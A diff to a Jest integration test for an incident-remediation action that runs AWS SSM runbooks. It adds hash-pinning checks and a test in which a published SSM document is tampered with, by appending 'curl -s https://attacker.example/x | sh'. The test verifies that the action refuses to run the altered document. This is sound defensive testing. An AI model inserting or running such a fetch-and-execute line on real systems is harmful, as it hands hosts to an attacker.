@@ -3,6 +3,12 @@
 // CloudWatch stand-ins, configured only by environment. Nothing of ours is mocked. A run notifies
 // people twice (its progress comment, edited as it advances, and its result), counted here from the
 // GitHub stand-in's traffic as the throttling plugin counts such writes.
+import {
+  GetDocumentCommand,
+  SSMClient,
+  UpdateDocumentCommand,
+  UpdateDocumentDefaultVersionCommand
+} from '@aws-sdk/client-ssm'
 import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals'
 import { throttling } from '@octokit/plugin-throttling'
 import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
@@ -13,7 +19,8 @@ import { BOT_LOGIN } from '../../harness/standins/github/index.js'
 import type { ActionRun } from '../../harness/action-bundle.js'
 import { virtualClock } from '../helpers/flows.js'
 import { runActionInProcess } from '../../harness/action-in-process.js'
-import { startStandIns, type StandIns } from '../../harness/standins/index.js'
+import { awsSettings, startStandIns, type StandIns } from '../../harness/standins/index.js'
+import { publishDocuments } from '../helpers/documents.js'
 
 // Each run is in process (harness/action-in-process.ts) without real-time waits; the timeout
 // allows for a loaded machine.
@@ -53,6 +60,8 @@ beforeAll(async () => {
     // Every phase takes no virtual time: the runner's first read already sees the end.
     ssm: { timings: { hiddenMs: 0, pendingMs: 0, runMs: 0, stepMs: 0 } }
   })
+  // The catalog's OpsLoop documents, as the publish workflow leaves them after a merge.
+  await publishDocuments(standIns)
   for (const id of ['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2'])
     standIns.ssm.registerInstance({ instanceId: id, tags: { Role: 'checkout-web' }, executor: web })
   // Another fleet's host: no plan for the checkout fleet may reach it.
@@ -271,10 +280,17 @@ describe('approval by comment, then remediation', () => {
     const sends = standIns.aws.calls.filter((c) => c.operation === 'SendCommand')
     // The execution and the verification check, both to the approved instances of the fleet.
     expect(sends.length).toBe(2)
+    // The published OpsLoop documents, pinned by their hash, with the plan's values as parameters
+    // that SSM checks against the runbook's constraints: never AWS-RunShellScript lines.
     expect(sends[0]?.input).toMatchObject({
-      DocumentName: 'AWS-RunShellScript',
+      DocumentName: 'OpsLoop-restart-systemd-service',
+      DocumentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
+      DocumentHashType: 'Sha256',
+      Parameters: { service: ['nginx'] },
       InstanceIds: ['i-0aaaaaaaaaaaaaaa1', 'i-0aaaaaaaaaaaaaaa2']
     })
+    expect(sends[0]?.input).not.toHaveProperty('Parameters.commands')
+    expect(sends[1]?.input).toMatchObject({ DocumentName: 'OpsLoop-restart-systemd-service.check' })
     expect(sends[0]?.input).not.toHaveProperty('Targets')
     const timeline = standIns.github.state.commentsOf(REPO, issue).map((c) => c.body)
     expect(
@@ -330,6 +346,55 @@ describe('remediation that must not run, or fails', () => {
     expect(standIns.github.state.commentsOf(REPO, issue).at(-1)?.body).toMatch(
       /already back to `OK`: nothing was run/
     )
+  })
+
+  it("runs nothing when SSM's document is not the reviewed runbook's, until it is published again", async () => {
+    const name = 'checkout-web-5xx-tampered-document'
+    standIns.cloudwatch.putAlarm({ AlarmName: name, StateValue: 'ALARM' })
+    const { issue, digest } = await openIncident(CHECKOUT, (e) => {
+      e.resources = [`arn:aws:cloudwatch:eu-west-1:111122223333:alarm:${name}`]
+      ;(e.detail as { alarmName: string }).alarmName = name
+    })
+    await say(issue, 'alice', `/approve ${digest.slice(0, 12)}`)
+    // Someone with SSM write access changes the document's commands behind the catalog's back.
+    const ssm = new SSMClient(awsSettings(standIns.env, 3))
+    const Name = 'OpsLoop-restart-systemd-service'
+    const { Content } = await ssm.send(new GetDocumentCommand({ Name }))
+    const content = JSON.parse(Content ?? '{}') as {
+      mainSteps: { inputs: { runCommand: string[] } }[]
+    }
+    content.mainSteps[0]?.inputs.runCommand.push('curl -s https://attacker.example/x | sh')
+    const { DocumentDescription } = await ssm.send(
+      new UpdateDocumentCommand({
+        Name,
+        Content: JSON.stringify(content),
+        DocumentVersion: '$LATEST'
+      })
+    )
+    await ssm.send(
+      new UpdateDocumentDefaultVersionCommand({
+        Name,
+        DocumentVersion: DocumentDescription?.DocumentVersion ?? ''
+      })
+    )
+    const before = sentCommands().length
+    const refused = await remediate(issue, digest)
+    expect(refused.outputs.outcome).toBe('refused')
+    expect(sentCommands()).toHaveLength(before)
+    expect(standIns.github.state.commentsOf(REPO, issue).at(-1)?.body).toMatch(
+      /SSM's default version of `OpsLoop-restart-systemd-service` .* is not what the reviewed runbook compiles to .*Publish SSM documents/
+    )
+    // Publishing the reviewed catalog puts the reviewed version back as the default; now it runs
+    // that version, pinned by its hash (this alarm does not recover, so the run then fails its
+    // verification, which is beside the point here).
+    const [published] = (await publishDocuments(standIns)).filter((r) => r.document === Name)
+    expect(published).toMatchObject({ action: 'updated', version: '1' })
+    const ran = await remediate(issue, digest)
+    expect(ran.outputs.outcome).not.toBe('refused')
+    expect(sentCommands()[before]?.input).toMatchObject({
+      DocumentName: Name,
+      DocumentHash: published?.hash
+    })
   })
 
   it('needs two distinct team members for a high-risk runbook, and rolls back when it fails', async () => {
